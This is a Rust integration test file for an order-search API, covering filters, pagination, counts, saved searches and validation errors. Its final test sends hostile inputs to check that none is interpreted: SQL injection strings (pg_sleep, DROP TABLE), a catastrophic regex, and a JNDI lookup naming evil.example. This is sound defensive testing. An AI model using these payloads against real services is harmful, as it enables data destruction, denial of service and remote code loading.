//! Searches over the API (REC-13): conditions, pages, counts, searches with a name, and what is refused.

use std::time::{Duration, Instant};

use pagurus_harness::world::program::Program;
use pagurus_scenario::value::percent_encode;
use serde_json::{Value, json};

use crate::installation::{Installation, LOG, call, with_actions};

async fn get(engine: &Installation, path: &str) -> Value {
    engine.get(path).await.unwrap().success().unwrap()
}

fn ids(page: &Value) -> Vec<&str> {
    page["items"].as_array().unwrap().iter().map(|order| order["id"].as_str().unwrap()).collect()
}

#[tokio::test]
async fn rec_13_orders_are_found_by_what_their_scenario_declares() {
    let engine = Installation::start("rec_13_attributes").await;
    let declared = "search: {customer: params.customer.id, sku: params.lines.sku}\n";
    engine.scenario("shop", &format!("{declared}{}", with_actions(&call("/pay")))).await;
    engine.world().program(Program::at("/pay").then_answer(422, json!({"code": "E7"})));
    for (id, customer, skus) in [("a", 7, ["x", "y"]), ("b", 8, ["x", "x"]), ("c", 7, ["y", "z"])] {
        let lines: Vec<Value> = skus.iter().map(|sku| json!({"sku": sku})).collect();
        let order =
            json!({"id": id, "scenario": "shop", "params": {"customer": {"id": customer}, "lines": lines}});
        engine.run(order, "fail").await;
    }
    for (query, found) in [
        ("attributes.customer=7", &["c", "a"][..]),
        ("attributes.sku=x", &["b", "a"]),
        ("attributes.sku=y&attributes.customer=7", &["c", "a"]),
        ("attributes.sku=x&attributes.customer=7&status=fail", &["a"]),
        ("attributes.none=7", &[]),
        ("idPrefix=b&attributes.customer=7", &[]),
    ] {
        let page = get(&engine, &format!("/v1/orders?{query}")).await;
        assert_eq!(ids(&page), found, "{query}: {page}");
    }
    // They follow the parameters.
    let changed = json!({"params": {"customer": {"id": 9}, "lines": []}, "reason": "moved"});
    assert_eq!(engine.act("a", "restart", &changed).await.status, 200);
    assert_eq!(ids(&get(&engine, "/v1/orders?attributes.customer=9").await), ["a"]);
    assert_eq!(ids(&get(&engine, "/v1/orders?attributes.customer=7").await), ["c"]);
    let counts = get(&engine, "/v1/counts?attributes.customer=7&by=scenario").await;
    assert_eq!(counts["items"], json!([{"key": ["shop"], "orders": 1, "newest": "c"}]));
}

async fn filled(test: &str) -> Installation {
    let engine = Installation::start(test).await;
    engine.scenario("masked", &format!("mask: [params.card]\n{}", with_actions(LOG))).await;
    engine.actions("pay", &call("/pay")).await;
    engine.world().program(Program::at("/pay").then_answer(422, json!({"code": "E7"})));
    for (id, customer) in [("a-1", 7), ("a-2", 8), ("b-1", 7)] {
        let order = json!({"id": id, "scenario": "pay", "params": {"customer": {"id": customer}, "lines": [{"sku": id}]}});
        engine.run(order, "fail").await;
    }
    engine
        .run(json!({"id": "m-1", "scenario": "masked", "params": {"card": "4111", "name": "x"}}), "success")
        .await;
    engine
}

#[tokio::test]
async fn rec_13_orders_are_found_by_whatever_they_have() {
    let engine = filled("rec_13_find").await;
    for (query, found) in [
        ("?status=fail&params.customer.id=7", &["b-1", "a-1"][..]),
        ("?createdSince=1h&params.lines.sku=a-2", &["a-2"]),
        ("?idPrefix=a-", &["a-1", "a-2"]),
        ("?ids=b-1,none,a-2", &["b-1", "a-2"]),
        ("?scenario=pay&status=fail,success&limit=500", &["b-1", "a-2", "a-1"]),
        ("?status=fail&scenario=masked", &[]),
        ("?createdUntil=1h", &[]),
        ("?status=success&finishedSince=1h", &["m-1"]),
        // What a scenario hides is not found by its value.
        ("?createdSince=1h&params.card=4111", &[]),
        ("?createdSince=1h&params.name=x", &["m-1"]),
        ("?createdSince=1h&scenarioStatus=failed", &["b-1", "a-2", "a-1"]),
        ("?createdSince=1h&mode=parallel&limit=2", &["m-1", "b-1"]),
        ("?createdSince=1h&mode=sequential", &[]),
        ("?status=fail&source=worker-1", &["b-1", "a-2", "a-1"]),
        ("?status=fail&source=worker-2", &[]),
    ] {
        let page = get(&engine, &format!("/v1/orders{query}")).await;
        assert_eq!(ids(&page), found, "{query}: {page}");
    }
    let of_class = get(&engine, "/v1/orders?status=fail&class=&limit=2").await;
    assert_eq!(ids(&of_class), ["b-1", "a-2"]);
    let next = of_class["next"].as_str().unwrap();
    let rest = get(&engine, &format!("/v1/orders?status=fail&class=&limit=2&cursor={next}")).await;
    assert_eq!((ids(&rest), &rest["next"]), (vec!["a-1"], &Value::Null));
    let page = get(&engine, "/v1/orders?idPrefix=a-&limit=1").await;
    let page =
        get(&engine, &format!("/v1/orders?idPrefix=a-&limit=1&cursor={}", page["next"].as_str().unwrap()))
            .await;
    assert_eq!(ids(&page), ["a-2"]);

    let counts = get(&engine, "/v1/counts?status=fail&by=class,state").await;
    assert_eq!((&counts["orders"], &counts["complete"]), (&json!(3), &json!(true)), "{counts}");
    assert_eq!((&counts["items"][0]["key"][0], &counts["items"][0]["newest"]), (&json!(""), &json!("b-1")));
    let counts = get(&engine, "/v1/counts?createdSince=1h&by=mode,scenarioStatus").await;
    assert_eq!(
        counts["items"][0],
        json!({"key": ["parallel", "failed"], "orders": 3, "newest": "b-1"}),
        "{counts}"
    );
    let counts = get(&engine, "/v1/counts").await;
    assert_eq!(counts["items"][0], json!({"key": ["fail"], "orders": 3, "newest": "b-1"}), "{counts}");
}

#[tokio::test]
async fn rec_13_a_search_keeps_its_name_and_what_has_no_path_is_refused_with_a_hint() {
    let engine = filled("rec_13_names").await;
    let conditions = json!({"status": ["fail"], "createdSince": "2h", "idPrefix": "a-"});
    let http = reqwest::Client::new();
    let url = |name: &str| format!("{}/v1/searches/{name}", engine.base());
    let saved = http.put(url("broken%20ones")).json(&conditions).send().await.unwrap();
    assert_eq!(saved.status(), 200);
    let page = get(&engine, "/v1/orders?saved=broken%20ones").await;
    assert_eq!(ids(&page), ["a-1", "a-2"]);
    let list = get(&engine, "/v1/searches").await;
    assert_eq!(
        (&list["items"][0]["name"], &list["items"][0]["search"]),
        (&json!("broken ones"), &conditions),
        "times stay as they were given"
    );
    let counts = get(&engine, "/v1/counts?saved=broken%20ones&by=scenario").await;
    assert_eq!(counts["items"][0]["orders"], 2);
    for (query, pointer) in [
        ("/v1/orders?params.a=1", "/params"),
        ("/v1/orders?statsu=fail", "/statsu"),
        ("/v1/orders?status=failed", "/status"),
        ("/v1/orders?cursor=x", "/cursor"),
        ("/v1/orders?limit=501", "/limit"),
        ("/v1/orders?saved=a&status=fail", "/saved"),
        ("/v1/counts?by=moon", "/by"),
        ("/v1/counts?by=status,class,state", "/by"),
        ("/v1/counts?createdSince=1h&params.a=1", "/params"),
    ] {
        let refused = engine.get(query).await.unwrap();
        assert_eq!(
            (refused.status, &refused.body["pointer"]),
            (422, &json!(pointer)),
            "{query}: {refused:?}"
        );
    }
    let hint = engine.get("/v1/orders?params.a=1").await.unwrap().body;
    assert!(hint["errors"][0]["hint"].as_str().unwrap().contains("createdSince"), "{hint}");
    assert_eq!(engine.get("/v1/orders?saved=none").await.unwrap().status, 404);
    assert_eq!(
        http.put(url("x")).json(&json!({})).send().await.unwrap().status(),
        422,
        "it would be every order"
    );
    assert_eq!(http.delete(url("broken%20ones")).send().await.unwrap().status(), 204);
    assert_eq!(http.delete(url("broken%20ones")).send().await.unwrap().status(), 404);
    let audit = get(&engine, "/v1/audit?kind=search").await;
    let actions: Vec<&Value> =
        audit["items"].as_array().unwrap().iter().map(|entry| &entry["action"]).collect();
    assert_eq!(actions, ["remove", "save"]);
}

#[tokio::test]
async fn rec_13_qlt_9_no_value_of_a_condition_is_read_as_sql_a_path_or_a_pattern() {
    let engine = filled("rec_13_hostile").await;
    let values = [
        "'; SELECT pg_sleep(60); --",
        "1) OR (SELECT pg_sleep(60)) IS NULL --",
        "$ ? (@ like_regex \"(a+)+$\")",
        "\"); DROP TABLE orders; --",
        "%",
        "_",
        "\\",
        "a-1' OR '1' = '1",
        "${jndi:ldap://evil.example/}",
    ];
    let keys = [
        "params.customer.id",
        "params.x' || pg_sleep(60) || '",
        "vars.\"a\"",
        "labels.a'b",
        "attributes.a)--",
    ];
    let fields = [
        "idPrefix",
        "scenario",
        "queue",
        "flow",
        "class",
        "transactionId",
        "source",
        "text",
        "scenarioStatus",
    ];
    for value in values {
        let value = percent_encode(value);
        let queries = keys.map(|key| format!("status=fail&{}={value}", percent_encode(key)));
        for query in fields.iter().map(|field| format!("{field}={value}")).chain(queries) {
            for list in ["orders", "counts"] {
                let begun = Instant::now();
                let answer = engine.get(&format!("/v1/{list}?{query}")).await.unwrap();
                assert!([200, 422].contains(&answer.status), "{list}?{query}: {answer:?}");
                let found = answer.body["items"].as_array().map_or(0, Vec::len);
                assert_eq!(found, 0, "{list}?{query}: {answer:?}");
                assert!(begun.elapsed() < Duration::from_secs(10), "{list}?{query}: {:?}", begun.elapsed());
            }
        }
    }
    assert_eq!(ids(&get(&engine, "/v1/orders?status=fail").await), ["b-1", "a-2", "a-1"], "all are there");
}
